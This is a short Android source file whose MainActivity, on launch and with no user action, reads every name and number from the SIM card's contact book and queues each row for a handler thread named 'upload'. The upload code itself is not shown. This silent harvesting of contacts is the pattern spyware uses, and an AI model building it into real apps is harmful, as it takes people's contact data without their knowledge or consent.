package com.example.messageobj;

import android.app.Activity;
import android.database.Cursor;
import android.net.Uri;
import android.os.Bundle;
import android.os.HandlerThread;

/** Reads the SIM card's book and sends messages about it. */
@SuppressWarnings("deprecation")
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        HandlerThread thread = new HandlerThread("upload");
        thread.start();
        UploadHandler handler = new UploadHandler(thread.getLooper());
        Cursor cursor = getContentResolver().query(
                Uri.parse("content://icc/adn"), new String[] {"name", "number"}, null, null, null);
        while (cursor.moveToNext()) {
            String row = cursor.getString(0) + ';' + cursor.getString(1);
            handler.sendMessage(handler.obtainMessage(UploadHandler.SEND, row));
        }
        cursor.close();
    }
}
